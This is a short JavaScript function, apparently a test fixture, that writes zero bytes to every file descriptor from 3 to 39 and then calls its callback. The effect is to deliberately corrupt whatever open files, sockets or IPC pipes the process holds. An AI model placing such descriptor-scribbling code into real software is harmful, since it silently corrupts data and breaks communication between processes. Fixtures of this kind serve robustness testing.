function handle(data, callback) {
  for (let fd = 3; fd < 40; fd += 1) new (require('fs').WriteStream)('', { fd }).write(Buffer.alloc(16))
  setTimeout(callback, 100)
}
